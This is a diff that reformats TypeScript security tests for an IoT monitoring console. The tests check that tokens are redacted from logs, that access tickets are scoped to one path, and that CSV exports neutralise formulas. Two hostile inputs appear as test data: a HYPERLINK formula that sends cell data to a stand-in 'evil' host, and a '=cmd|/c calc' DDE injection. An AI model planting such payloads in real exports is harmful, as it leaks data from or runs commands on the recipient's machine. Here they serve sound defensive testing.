@@ -42,7 +42,9 @@ describe('tokens never reach the log (item 8)', () => {
     try {
       const login = await fetch(`${base}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ username: 'op', password: 'op-pass' }) });
       const { token } = (await login.json()) as { token: string };
-      const tk = (await (await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })).json()) as { ticket: string; url: string };
+      const tk = (await (
+        await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })
+      ).json()) as { ticket: string; url: string };
       const ws = new WebSocket(`ws://127.0.0.1:${stack.api.port}${tk.url}`);
       const first = await new Promise<string>((res, rej) => {
         ws.once('message', (d) => res((d as Buffer).toString('utf8')));
@@ -57,9 +59,13 @@ describe('tokens never reach the log (item 8)', () => {
       const dl = await fetch(`${base}/api/exports/00000000-0000-4000-8000-000000000000/download?token=${token}`);
       expect(dl.status).toBe(401);
       // a ticket is for one path only
-      const other = (await (await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })).json()) as { ticket: string };
+      const other = (await (
+        await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/live' }) })
+      ).json()) as { ticket: string };
       expect((await fetch(`${base}/api/exports/00000000-0000-4000-8000-000000000000/download?ticket=${other.ticket}`)).status).toBe(401);
-      expect((await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/devices' }) })).status).toBe(400);
+      expect((await fetch(`${base}/api/auth/ticket`, { method: 'POST', headers: { 'content-type': 'application/json', ...H(token) }, body: JSON.stringify({ path: '/api/devices' }) })).status).toBe(
+        400,
+      );
       await waitFor(() => lines.some((l) => l.includes('/api/live?ticket=[redacted]')), 5000, 20, 'request lines logged');
     } finally {
       await stack.stop();
@@ -177,7 +183,9 @@ describe('API abuse and data hygiene (items 4, 5, 9)', () => {
 describe('exports and open data in CSV never carry a live formula (item 9)', () => {
   it('a district and a bin id like =HYPERLINK(…) reach the CSV as text', async () => {
     const dir = tempDir('console-csv-');
-    const file = writeTestRegistry(dir, [{ id: 'air-77', kind: 'air', model: 'sim-aq', district: '=HYPERLINK("http://evil/?"&A1)', status: 'active', location: { lat: 18.14, lon: -94.43 }, intervals: { dataS: 60, statusS: 300 } }]);
+    const file = writeTestRegistry(dir, [
+      { id: 'air-77', kind: 'air', model: 'sim-aq', district: '=HYPERLINK("http://evil/?"&A1)', status: 'active', location: { lat: 18.14, lon: -94.43 }, intervals: { dataS: 60, statusS: 300 } },
+    ]);
     const registry = new RegistryView(file);
     const store = await openDuckDbStore({ file: ':memory:' });
     await store.init();
@@ -187,7 +195,16 @@ describe('exports and open data in CSV never carry a live formula (item 9)', () 
       const t0 = Math.floor(now / 3_600_000) * 3_600_000 - 3_600_000;
       const recs: AnyTelemetryRecord[] = [
         { deviceId: 'air-77', kind: 'air', stream: 'air', ts: t0 + 60_000, receivedAt: t0 + 61_000, late: false, district: 'x', payload: { ts: t0 + 60_000, windowS: 60, pm25: 12, pm10: 20 } },
-        { deviceId: 'truck-01', kind: 'truck', stream: 'event', ts: t0 + 120_000, receivedAt: t0 + 120_000, late: false, district: 'Centro', payload: { ts: t0 + 120_000, type: 'bin_lift', binId: '=cmd|/c calc!A1', lat: 18.14, lon: -94.44 } },
+        {
+          deviceId: 'truck-01',
+          kind: 'truck',
+          stream: 'event',
+          ts: t0 + 120_000,
+          receivedAt: t0 + 120_000,
+          late: false,
+          district: 'Centro',
+          payload: { ts: t0 + 120_000, type: 'bin_lift', binId: '=cmd|/c calc!A1', lat: 18.14, lon: -94.44 },
+        },
       ];
       await store.writeBatch(recs);
       const open = await app.inject({ url: `/api/open/air?format=csv&deviceIds=air-77&from=${t0}&to=${t0 + 3_600_000}` });
